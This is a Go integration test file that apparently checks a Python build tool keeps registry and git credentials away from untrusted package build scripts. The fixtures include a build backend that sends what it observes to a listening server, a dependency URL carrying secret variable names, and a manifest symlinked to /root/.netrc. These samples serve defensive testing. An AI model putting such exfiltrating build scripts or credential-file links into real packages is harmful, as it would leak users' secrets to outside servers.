package integration

import (
	"encoding/base64"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/moby/buildkit/session"
)

// listener is a server that is told what packages see.
type listener struct {
	*httptest.Server
	mu    sync.Mutex
	heard strings.Builder
}

func newListener(t *testing.T) *listener {
	t.Helper()
	l := &listener{}
	l.Server = httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		text, _ := io.ReadAll(r.Body)
		l.mu.Lock()
		defer l.mu.Unlock()
		_, _ = fmt.Fprintln(&l.heard, r.URL.Path, string(text))
	}))
	t.Cleanup(l.Close)
	return l
}

// all is what was heard.
func (l *listener) all() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.heard.String()
}

// talkative is a source archive whose build script tells a server what it sees. What it
// depends on is not known without running that.
func talkative(name, version string, l *listener) dist {
	return dist{name: name, version: version, sdist: true, files: map[string]string{
		"PKG-INFO":       "Metadata-Version: 1.0\nName: " + name + "\nVersion: " + version + "\n",
		"pyproject.toml": "[build-system]\nrequires = [\"helper\"]\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n",
		"backend.py": "import helper\n" + spy + fmt.Sprintf("import urllib.request\nurllib.request.urlopen(%q, json.dumps(spy()).encode()).close()\n", l.URL) +
			discreet(name, version),
	}}
}

// unlocked is an index of packages with talkative build scripts among them, which wants a
// login, and a project of that kind.
func unlocked(t *testing.T) (*listener, *index, []session.Attachable, map[string]string) {
	t.Helper()
	ear := newListener(t)
	ix := newIndex(t, append(helpers(), talkative("evil", "1.0", ear), dist{name: "mixed", version: "0.9"}, talkative("mixed", "1.0", ear),
		dist{name: "outer", version: "1.0", requires: []string{"evil"}})...)
	ix.user, ix.password = "builder", planted
	host, _, _ := strings.Cut(ix.address(), ":")
	own := talkative("own", "1.0", ear).files
	own["backend.py"] = strings.Replace(own["backend.py"], `Name: own\nVersion: 1.0\n`, `Name: own\nVersion: 1.0\nRequires-Dist: mixed\n`, 1)
	delete(own, "PKG-INFO")
	return ear, ix, passing(map[string]string{"netrc": "machine " + host + " login builder password " + planted + "\n"}), own
}

// corp names an index in a manifest.
func corp(ix *index) string {
	return "[[tool.uv.index]]\nname = \"corp\"\nurl = \"" + ix.simple() + "\"\ndefault = true\n"
}

// ownModule is the configuration of a project that is a package.
const ownModule = "# syntax=org/pybuild\npython = \"3.13\"\n[serve]\nmodule = \"own\"\n"

// TestTrusted finds versions with a login at hand: no build script sees it but those that
// the configuration trusts.
func TestTrusted(t *testing.T) {
	t.Parallel()
	const said = "would be built to know what it needs, and no build script runs where secrets are seen [PB526]"
	for name, c := range map[string]struct {
		config, requirements string
		fails                []string
		modules              []string
		trusted              bool
	}{
		"a source archive": {requirements: "evil\n", fails: []string{"requirements.txt:2:1: evil " + said, `trusted = ["evil"]`}},
		"deeper":           {requirements: "outer\n", fails: []string{"evil " + said}},
		"from source":      {requirements: "--no-binary evil\nevil\n", fails: []string{"evil " + said}},
		"an older wheel":   {requirements: "mixed\n", modules: []string{"mixed.py"}},
		"a directory":      {requirements: "-e ./own\nhelper\n", modules: []string{"own.py", "mixed.py", "helper.py"}},
		"the project":      {modules: []string{"own.py", "mixed.py"}},
		"trusted":          {config: "[build]\ntrusted = [\"Evil\"]\n", requirements: "mixed\nevil\n", modules: []string{"evil.py", "mixed.py"}, trusted: true},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			ear, ix, session, tree := unlocked(t)
			files := map[string]string{"pybuild.toml": strings.Replace(job, "[serve]", c.config+"[serve]", 1), "job.py": "", "requirements.txt": "--index-url " + ix.simple() + "\n" + c.requirements}
			for file, text := range tree {
				files["own/"+file] = text
			}
			if name == "the project" {
				// Only its build script knows what it needs.
				files = map[string]string{"pybuild.toml": ownModule, "setup.py": "", "backend.py": tree["backend.py"], "pyproject.toml": tree["pyproject.toml"] + corp(ix)}
			}
			b := build{dir: project(t, files), session: session, out: t.TempDir(), top: true}
			if c.fails != nil {
				b.fails(t, c.fails...)
			} else if tr, line := b.must(t), "no build scripts run in this step"; !strings.Contains(tr.logs, line) {
				t.Errorf("the log does not say %q:\n%s", line, tr.logs)
			}
			for _, module := range c.modules {
				if _, err := os.Stat(filepath.Join(b.out, sitePackages, module)); err != nil {
					t.Error(err)
				}
			}
			heard := ear.all()
			if seen := strings.Contains(heard, planted); seen != c.trusted {
				t.Errorf("a build script has seen a secret: %v", seen)
			}
			if c.fails != nil && heard != "" {
				t.Error("a build script ran")
			}
		})
	}
	t.Run("the target lock", func(t *testing.T) {
		t.Parallel()
		ear, ix, session, tree := unlocked(t)
		manifest := func(version string) map[string]string {
			return map[string]string{"pybuild.toml": ownModule, "backend.py": tree["backend.py"], "pyproject.toml": "[project]\nname = \"own\"\n" + version +
				"requires-python = \">=3.13\"\ndependencies = [\"mixed\"]\n" + tree["pyproject.toml"] + corp(ix)}
		}
		b := build{dir: project(t, manifest("dynamic = [\"version\"]\n")), session: session, attrs: map[string]string{"target": "lock"}, read: []string{"uv.lock"}}
		b.fails(t, "own "+said, `trusted = ["own"]`)
		b.dir = project(t, manifest("version = \"1.0\"\n"))
		if text := b.must(t).files["uv.lock"]; !strings.Contains(text, "mixed-0.9") {
			t.Errorf("the lock is\n%s", text)
		}
		if ear.all() != "" {
			t.Error("a build script ran to lock")
		}
	})
	t.Run("without a secret", func(t *testing.T) {
		t.Parallel()
		_, ix, _, _ := unlocked(t)
		ix.password = ""
		dir := project(t, map[string]string{"pybuild.toml": job, "job.py": "", "requirements.txt": "--index-url " + ix.simple() + "\nmixed\n"})
		tr := build{dir: dir, read: []string{sitePackages + "mixed.json"}}.must(t)
		if tr.files[sitePackages+"mixed.json"] == "" || strings.Contains(tr.logs, "no build scripts run") {
			t.Errorf("the newest version is not built:\n%s", tr.logs)
		}
	})
}

// TestLoginsAreNoVariables has a repository need a package whose address names the
// variables that logins are passed as: uv fills them in, and asks the server.
func TestLoginsAreNoVariables(t *testing.T) {
	t.Parallel()
	ear, ix, _, _ := unlocked(t)
	ca := newAuthority(t)
	address := ear.URL + "/${UV_INDEX_CORP_PASSWORD}/${GIT_CONFIG_VALUE_0}/${GIT_AUTH_TOKEN}/${pybuild_git_token_0}/${LICENCE}/thing-1.0-py3-none-any.whl"
	bare := repository(t, map[string]string{"pyproject.toml": "[project]\nname = \"shop\"\nversion = \"1.0\"\ndependencies = [\"thing @ " + address + "\"]\n"})
	web := ca.serve(t, gitHTTP(t, filepath.Dir(bare), planted))
	secrets := map[string]string{"ca": ca.pem, "GIT_AUTH_TOKEN": planted, "UV_INDEX_CORP_USERNAME": "builder", "UV_INDEX_CORP_PASSWORD": planted, "LICENCE": planted}
	files := map[string]string{
		"pybuild.toml": job + "[build]\nca = true\nsecrets = [\"LICENCE\"]\n", "job.py": "",
		"pyproject.toml": "[project]\nname = \"ours\"\nversion = \"1\"\nrequires-python = \">=3.12\"\ndependencies = [\"mixed\", \"shop @ git+" + web.URL + "/shop.git\"]\n" + corp(ix),
	}
	b := build{dir: project(t, files), session: passing(secrets)}
	b.fails(t, "thing")
	heard := ear.all()
	if login := base64.StdEncoding.EncodeToString([]byte("x-access-token:" + planted)); strings.Contains(heard, planted) || strings.Contains(heard, login) {
		t.Error("a server is told a secret")
	}
	if !strings.Contains(heard, "UV_INDEX_CORP_PASSWORD") {
		t.Errorf("the address was not asked for, but\n%s", heard)
	}

	// A wrong password is told from none.
	files["pyproject.toml"] = strings.Replace(files["pyproject.toml"], ", \"shop @ git+"+web.URL+"/shop.git\"", "", 1)
	secrets["UV_INDEX_CORP_PASSWORD"] = "wrong-one"
	b = build{dir: project(t, files), session: passing(secrets)}
	b.fails(t, `refuses the user name and password of the secrets for the index "corp" [PB504]`)
}

// TestLinkedManifest has a repository with a link to a file of logins for its manifest: uv
// quotes the line that it cannot read.
func TestLinkedManifest(t *testing.T) {
	t.Parallel()
	ca := newAuthority(t)
	dir := t.TempDir()
	if err := os.Symlink("/root/.netrc", filepath.Join(dir, "pyproject.toml")); err != nil {
		t.Fatal(err)
	}
	web := ca.serve(t, gitHTTP(t, filepath.Dir(committed(t, dir)), planted))
	host, _, _ := strings.Cut(strings.TrimPrefix(web.URL, "https://"), ":")
	b := build{
		dir: project(t, map[string]string{"pybuild.toml": job + "[build]\nca = true\n", "job.py": "",
			"requirements.txt": "shop @ git+" + web.URL + "/shop.git\n"}),
		session: passing(map[string]string{"ca": ca.pem, "netrc": "machine " + host + " login reader password " + planted + "\n"}),
	}
	b.fails(t, "shop", "</root/.netrc>")
}
